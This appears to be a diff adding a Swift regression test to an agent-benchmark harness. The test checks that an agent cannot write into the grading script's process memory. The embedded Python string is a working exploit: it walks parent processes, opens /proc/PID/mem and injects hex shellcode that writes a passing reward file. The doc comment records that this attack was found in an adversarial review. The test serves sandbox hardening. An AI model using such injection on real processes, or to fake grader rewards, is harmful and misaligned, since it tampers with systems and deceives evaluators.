@@ -162,3 +162,84 @@ private final class OutcomeBox: @unchecked Sendable {
     var outcome: TaskOutcome?
     var verifier = ""
 }
+
+/// Agent code a test script starts, on a task's image (where the root is a writable bind,
+/// so Landlock leaves /proc writable), against the test script's own process: found by an
+/// adversarial review, it opened the shell's /proc/PID/mem and wrote code there that wrote the
+/// reward from that very process. The toolbox's programs are unreadable in a sandbox, so its
+/// processes are not dumpable.
+@Suite(.serialized) struct VerifierMemoryTests {
+    /// Walks up from its parent: for each ancestor, whether /proc/PID/syscall reads and
+    /// /proc/PID/mem opens read-write; where the test script's shell opened, writes there
+    /// (at the address it resumes from) code that writes the reward and exits.
+    static let inject = #"""
+        import errno, os, struct
+        code = bytearray.fromhex("48c7c79cffffff488d3500000000ba4102000041baa4010000b8010100000f0589c7488d3500000000ba02000000b8010000000f0531ffb8e70000000f05")
+        path = b"/logs/verifier/reward.txt\0"
+        code[10:14] = struct.pack("<i", len(code) - 14)
+        i = code.find(bytes.fromhex("488d35"), 14)
+        code[i + 3:i + 7] = struct.pack("<i", len(code) + len(path) - (i + 7))
+        pid = os.getppid()
+        while pid > 1:
+            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace").strip()
+            pc = None
+            try:
+                pc = int(open(f"/proc/{pid}/syscall").read().split()[-1], 16)
+                print("syscall ok", cmd)
+            except OSError as e:
+                print("syscall", errno.errorcode[e.errno], cmd)
+            try:
+                with open(f"/proc/{pid}/mem", "r+b", buffering=0) as m:
+                    print("mem ok", cmd, flush=True)
+                    if pc is not None and "/tests/test.sh" in cmd:
+                        m.seek(pc)
+                        m.write(bytes(code) + path + b"1\n")
+            except OSError as e:
+                print("mem", errno.errorcode[e.errno], cmd)
+            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
+        """#
+
+    @Test("agent code a test script runs on an image cannot read or write the test script's memory: /proc/PID/mem and /proc/PID/syscall of every verifier process of the toolbox are refused (EACCES), and the wrong answer scores 0")
+    func testScriptMemoryClosed() throws {
+        try TaskImageTests.requireImageHost()
+        let dir = NSTemporaryDirectory() + "ah-image-mem-" + UUID().uuidString.prefix(8).lowercased()
+        defer { try? FileManager.default.removeItem(atPath: dir) }
+        let t = dir + "/tasks/proc-mem"
+        try TaskImageTests.makeTaskDirectories(t)
+        try "Write the answer.\n".write(toFile: t + "/instruction.md", atomically: true, encoding: .utf8)
+        try "FROM \(TaskImageTests.base)\nWORKDIR /app\n".write(toFile: t + "/environment/Dockerfile", atomically: true, encoding: .utf8)
+        try Self.inject.write(toFile: t + "/solution/inject.py", atomically: true, encoding: .utf8)
+        try """
+            #!/bin/bash
+            echo WRONG > /app/answer.txt
+            cp /solution/inject.py /app/inject.py
+            printf '#!/bin/sh\\nexec /usr/bin/python3 /app/inject.py\\n' > /app/run.sh
+            chmod 755 /app/run.sh
+
+            """.write(toFile: t + "/solution/solve.sh", atomically: true, encoding: .utf8)
+        try """
+            #!/bin/bash
+            /app/run.sh > /logs/verifier/out.txt 2>&1
+            if [ "$(cat /app/answer.txt)" = "NEVER-GIVEN-SECRET" ]; then echo 1 > /logs/verifier/reward.txt; else echo 0 > /logs/verifier/reward.txt; fi
+
+            """.write(toFile: t + "/tests/test.sh", atomically: true, encoding: .utf8)
+        let task = try #require(try LocalBenchmark(directory: dir).task("proc-mem"))
+        let store = TaskImageStore(directory: dir + "/store")
+        try #require(try store.prepare([task], ids: try ImageIDs.range()) { _ in }.isEmpty)
+        let scratch = try TaskImageTests.scratchRoot()
+        defer { rmdir(scratch) }
+        var config = TaskRunConfiguration(policyLoader: PolicyLoader(searchPaths: [Built.packageRoot + "/policies"]), agentDirectory: "",
+                                          scratchRoot: scratch)
+        config.oracle = true
+        config.images = store.load([task]).images
+        config.verifierTools = try TaskImageTests.toolbox()
+        let box = OutcomeBox()
+        config.scratchObserver = { _, path in box.verifier = (try? String(contentsOfFile: path + "/logs/out.txt", encoding: .utf8)) ?? "(no out.txt)" }
+        let outcome = try TaskRunner(configuration: config).run(task, traceDirectory: nil)
+        #expect(outcome.reward == 0, "\(outcome)\n\(box.verifier)")
+        // The attempt was made on the test script's shell, and refused by the kernel.
+        let shell = box.verifier.split(separator: "\n").filter { $0.hasSuffix("/tests/test.sh") }
+        #expect(shell.contains { $0.hasPrefix("syscall EACCES ") } && shell.contains { $0.hasPrefix("mem EACCES ") }, "\(box.verifier)")
+        #expect(!box.verifier.contains("mem ok") && !box.verifier.contains("syscall ok"), "\(box.verifier)")
+    }
+}
